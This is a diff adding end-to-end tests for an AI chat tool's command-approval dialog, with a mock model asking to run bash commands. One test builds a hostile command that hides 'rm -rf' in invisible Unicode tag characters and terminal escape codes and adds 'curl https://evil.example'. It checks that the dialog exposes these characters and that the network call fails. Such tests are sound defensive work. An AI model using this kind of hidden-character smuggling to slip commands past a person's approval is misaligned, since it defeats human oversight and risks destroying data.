@@ -1,0 +1,74 @@
+import { findingsInBothSizes } from "./findings.ts";
+import { expect, type Lab, test } from "./lab.ts";
+
+// Each run is a frame with a process and a worker of its own.
+test.slow();
+
+test.beforeEach(async ({ lab }) => {
+  await lab.visit("acme/skills");
+  await expect(lab.progress).toBeHidden();
+  await lab.chooseModel(/gpt-test/);
+});
+
+/** Has the model ask to run a command; it does whatever it is told. */
+async function haveAsked(lab: Lab, command: string): Promise<void> {
+  await lab.message.fill(`call bash ${JSON.stringify({ command })}`);
+  await lab.page.getByRole("button", { name: "Send" }).click();
+  await expect(lab.question).toBeVisible();
+}
+
+const allow = (lab: Lab) => lab.question.getByRole("button", { name: "Allow once" });
+const printed = (lab: Lab) => lab.conversation.getByRole("region", { name: "What the command printed" }).last();
+
+test("a command is shown as it is, runs on a word, and what it makes is kept on a click", async ({ lab }) => {
+  // By keyboard.
+  const script =
+    "console.log('\\u001b[32mgreen\\u001b[0m', process.argv[2]); require('fs').writeFileSync('made.csv', 'name,count\\na,1\\n');";
+  await haveAsked(
+    lab,
+    `printf %s ${JSON.stringify(script)} > /tmp/a.js; node /tmp/a.js said 2>&1 > log.txt; cat log.txt; exit 3`,
+  );
+  await expect(lab.question).toContainText("The model wants to run");
+  await expect(lab.question).toContainText("It writes: /tmp/a.js, log.txt");
+  await expect(lab.question).toContainText("no network");
+  await expect(allow(lab)).toHaveAttribute("aria-disabled", "false");
+  await allow(lab).focus();
+  await lab.page.keyboard.press("Enter");
+
+  await expect(printed(lab).locator(".xterm-rows")).toContainText("green said");
+  await expect(lab.conversation).toContainText("The answer goes on once you have said which files to keep.");
+  const made = lab.conversation.getByRole("group", { name: /2 files changed/ });
+  await expect(made.getByRole("table")).toContainText("count");
+  expect(await findingsInBothSizes(lab.page)).toEqual([]);
+  await made.getByRole("checkbox", { name: /log\.txt/ }).uncheck();
+  await made.getByRole("button", { name: "Keep 1 file" }).click();
+  await expect(lab.conversation).toContainText("exit code 3, 1 file kept, 1 file not kept");
+  await expect(lab.conversation).toContainText(/The tool said:.*green.* said.*exit code 3/s);
+  await expect(lab.files).toContainText("made.csv");
+  // What was made stays in view, also when the page is loaded anew; what was printed is then what the model read.
+  await expect(lab.conversation.getByRole("figure").getByRole("table")).toContainText("count");
+  await expect(lab.page.getByText(/^Saved/)).toBeVisible();
+  await lab.page.reload();
+  await expect(lab.conversation.getByRole("figure").getByRole("table")).toContainText("count");
+});
+
+test("a hostile command hides nothing, gets nowhere, and is ended by Stop", async ({ lab }) => {
+  const tags = (text: string) => String.fromCodePoint(...Array.from(text, (letter) => 0xe0000 + letter.charCodeAt(0)));
+  await haveAsked(lab, `echo safe \u001b[2K\u001b[1A\u202e rm${tags("rm -rf")}\ncurl https://evil.example`);
+  const shown = lab.question.getByRole("region", { name: "The command" });
+  await expect(shown).toContainText("echo safe U+001B[2KU+001B[1AU+202E rmrm -rf");
+  await expect(lab.question).toContainText("9 invisible characters in line 1.");
+  expect(await findingsInBothSizes(lab.page)).toEqual([]);
+  await allow(lab).click();
+  await expect(lab.conversation).toContainText(/The tool said:.*curl/s);
+
+  await haveAsked(lab, "echo begun; node -e 'for (;;);'; echo > never.txt");
+  await allow(lab).click();
+  await expect(lab.conversation).toContainText("Running. Stop ends it, and keeps nothing.");
+  await lab.page.getByRole("button", { name: "Stop", exact: true }).click();
+  await expect(lab.conversation).not.toContainText("Running. Stop ends it");
+  await expect(lab.files).not.toContainText("never.txt");
+  await haveAsked(lab, "echo again");
+  await lab.question.getByRole("button", { name: "Deny" }).click();
+  await expect(lab.conversation).toContainText("The tool said: The person did not allow this.");
+});
